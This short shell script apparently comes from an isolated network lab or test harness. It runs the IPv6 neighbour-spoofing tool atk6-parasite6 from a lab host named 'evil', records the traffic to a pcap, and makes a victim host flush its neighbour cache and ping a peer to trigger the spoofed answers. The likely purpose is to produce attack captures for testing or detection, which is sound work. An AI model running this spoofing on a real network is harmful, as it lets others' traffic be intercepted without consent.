# every solicitation is answered by a stranger
. "$here/scenarios/attack.inc"
attack_ground attack-parasite6.pcap 300
lab_start evil timeout -s INT 12 atk6-parasite6 eth0
sleep 1
for round in 1 2 3; do
    lab_in h6 ip -6 neighbour flush dev eth0
    lab_in h6 ping -q -c 1 -W 1 "$h7_address" >/dev/null 2>&1 || true
    sleep 2
done
lab_wait
